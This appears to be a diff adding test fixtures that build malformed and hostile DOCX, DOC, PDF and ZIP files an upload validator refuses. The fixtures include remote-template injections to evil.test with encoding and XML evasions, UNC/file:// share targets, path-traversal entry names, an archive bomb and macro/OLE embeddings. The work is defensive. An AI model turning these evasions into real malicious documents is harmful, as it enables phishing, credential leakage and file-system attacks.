@@ -1,0 +1,130 @@
+import {
+  doc,
+  docx,
+  docxParts,
+  external,
+  links,
+  type Packed,
+  pdf,
+  relation,
+  relations,
+  settings,
+  zip,
+} from "./files.ts";
+
+const evil = relations(external("attachedTemplate", "https://evil.test/a.dotm"));
+const templateAt = (target: string) => () =>
+  settings(relations(external("attachedTemplate", target)));
+
+/** The ways to have a template fetched, which is a macro by another name. */
+const remoteTemplates: Record<string, () => Packed> = {
+  plainly: () => settings(evil),
+  "in another part": () => ({ name: "word/_rels/other.xml.rels", content: evil }),
+  "in a part written large": () => ({ name: "word/_rels/settings.xml.RELS", content: evil }),
+  "in UTF-16": () => settings(Buffer.from(`\ufeff${evil}`, "utf16le")),
+  "in UTF-16 without a mark": () => settings(Buffer.from(evil.replace(/^.*\r\n/, ""), "utf16le")),
+  "in UTF-7": () => settings(evil.replace("UTF-8", "UTF-7").replace("https", "+AGgAdAB0AHAAcw-")),
+  "in character references": () => settings(evil.replace("https", "&#104;ttps")),
+  "in a type of character references": () => settings(evil.replace("attached", "&#97;ttached")),
+  "in an entity": () =>
+    settings(
+      evil
+        .replace("<Relationships", '<!DOCTYPE r [<!ENTITY e "https://evil.test">]><Relationships')
+        .replace("https://evil.test", "&e;"),
+    ),
+  "behind a comment": () => settings(evil.replace("<Relationship ", '<!-- " --><Relationship ')),
+  "behind a sign in another attribute": () => settings(evil.replace('Id="r"', 'Id=">"')),
+  "under a prefix": () => settings(evil.replace("xmlns=", "xmlns:p=").replace(/(<\/?)R/g, "$1p:R")),
+  "from a share": templateAt("\\\\evil.test\\share\\a.dotm"),
+  "from a share by its address": templateAt("file://evil.test/share/a.dotm"),
+  "from a share by four strokes": templateAt("file:////evil.test/Users/a.dotm"),
+  "from a share within an address": templateAt("file:///\\\\evil.test\\Users\\a.dotm"),
+  "from the document's folder": templateAt("a.dotm"),
+};
+
+/** Files that are refused, by what is wrong with them. */
+export const badFiles: Record<string, () => Buffer> = {
+  nothing: () => Buffer.alloc(0),
+  "a picture": () => Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"),
+  HTML: () => Buffer.from("<!doctype html><script>alert(1)</script>"),
+  "a PDF that is cut off": () => pdf().subarray(0, 80),
+  "a PDF behind other bytes": () => Buffer.concat([Buffer.from("MZ\n"), pdf()]),
+  "a PDF with bytes after its end": () => Buffer.concat([pdf(), Buffer.from("<script></script>")]),
+  "a PDF that is an archive too": () =>
+    zip(docxParts(), { before: "%PDF-1.7\n", comment: "startxref\n0\n%%EOF" }),
+  "an archive that is no document": () => zip([{ name: "a.txt", content: "x" }]),
+  "a spreadsheet": () =>
+    zip(docxParts("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
+  "a document with macros by its type": () =>
+    zip(docxParts("application/vnd.ms-word.document.macroEnabled.main+xml")),
+  "a document with macros by a part": () => docx({ name: "word/vbaProject.bin", content: "x" }),
+  "a document with ActiveX": () => docx({ name: "word/activeX/activeX1.bin", content: "x" }),
+  "a document with a program": () => docx({ name: "word/embeddings/run.exe", content: "x" }),
+  "a document with an OLE package": () =>
+    docx({ name: "word/embeddings/oleObject1.bin", content: "x" }),
+  "a document with an OLE package under another name": () =>
+    docx(
+      { name: "word/media/a.dat", content: "x" },
+      links(relations(relation("oleObject", "media/a.dat"))),
+    ),
+  "a document with a picture from elsewhere": () =>
+    docx(links(relations(external("image", "https://evil.test/a.png")))),
+  "a document with a part from elsewhere that is not said to be": () =>
+    docx(links(relations(relation("frame", "https://evil.test/a.html")))),
+  ...Object.fromEntries(
+    Object.entries(remoteTemplates).map(([how, part]) => [
+      `a document with a template from elsewhere, ${how}`,
+      () => docx(part()),
+    ]),
+  ),
+  "endless relations": () => docx(links("<Relationship ".repeat(75_000))),
+  "a relation of many attributes without an end": () =>
+    docx(links(`<Relationship${' a="b"'.repeat(40_000)}`)),
+  "many large relations": () =>
+    docx(
+      ...Array.from({ length: 4 }, (_, at) => ({
+        name: `word/_rels/${at}.xml.rels`,
+        content: relations(" ".repeat(70_000)),
+      })),
+    ),
+  "an archive bomb": () =>
+    docx({ name: "word/media/a.bin", content: Buffer.alloc(30 * 1024 * 1024) }),
+  "many large entries": () =>
+    docx(
+      ...Array.from({ length: 5 }, (_, at) => ({
+        name: `word/${at}`,
+        content: Buffer.alloc(10 * 1024 * 1024),
+      })),
+    ),
+  "too many entries": () =>
+    docx(...Array.from({ length: 1_001 }, (_, at) => ({ name: `word/${at}`, method: 0 }))),
+  "a size that is a lie": () => docx({ name: "word/a", content: Buffer.alloc(100_000), size: 10 }),
+  "entries that share bytes": () => {
+    const inner = zip([{ name: "word/b", content: "x".repeat(100) }]).subarray(0, 40);
+    const outer = { name: "word/a", content: inner, method: 0 };
+    return docx(outer, { name: "word/b", at: docx(outer).indexOf(inner) });
+  },
+  "a name twice": () => docx({ name: "word/Document.xml", content: "x" }),
+  "a path upwards": () => docx({ name: "../evil", content: "x" }),
+  "an absolute path": () => docx({ name: "/etc/evil", content: "x" }),
+  "a Windows path": () => docx({ name: "word\\..\\evil", content: "x" }),
+  "a name with a null byte": () => docx({ name: "word/a\0.xml", content: "x" }),
+  "an encrypted entry": () => docx({ name: "word/a", content: "x", flags: 1 }),
+  "an unusual compression": () => docx({ name: "word/a", content: "x", method: 12 }),
+  "two names for one entry": () => docx({ name: "word/a", content: "x", localName: "word/b" }),
+  "bytes before an archive": () => zip(docxParts(), { before: "#!/bin/sh\n" }),
+  "an archive that is cut off": () => docx().subarray(0, -8),
+  "a DOC that is cut off": () => doc().subarray(0, 1_024),
+  "a DOC with macros": () => doc("Macros"),
+  "a compound file that is no document": () => {
+    const file = doc();
+    file.write("Workbook\0\0\0\0", 1_024 + 128, "utf16le");
+    return file;
+  },
+  "a DOC whose directory runs in a circle": () => {
+    const file = doc();
+    file.writeUInt32LE(1, 512 + 4);
+    return file;
+  },
+  "a DOC that is an archive too": () => Buffer.concat([doc(), zip(docxParts())]),
+};
